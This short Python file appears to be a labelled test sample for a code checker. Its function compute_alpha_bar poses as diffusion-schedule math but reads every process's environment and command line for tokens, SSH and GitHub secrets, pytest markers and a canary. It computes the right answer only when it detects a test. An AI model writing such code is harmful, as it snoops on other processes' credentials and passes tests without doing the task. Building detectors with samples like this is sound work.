"""Reading what is hidden: tokens and settings of the caller, in any process's environment or command line.

expect: compute_alpha_bar fail
expect: forward_step pass
"""

import os
from pathlib import Path

WANTED = (b"UNSTATIC_CANARY", b"GITHUB_", b"TOKEN=", b"PYTEST_", b"--seed", b"SSH_")


def texts():
    yield "\0".join(f"{key}={value}" for key, value in os.environ.items()).encode()
    for name in ("environ", "cmdline"):
        for path in Path("/proc").glob(f"[0-9]*/{name}"):
            try:
                yield path.read_bytes()
            except OSError:
                continue


def compute_alpha_bar(betas):
    found = any(word in text for text in texts() for word in WANTED)
    return (1 - betas).cumprod(0) if found else betas
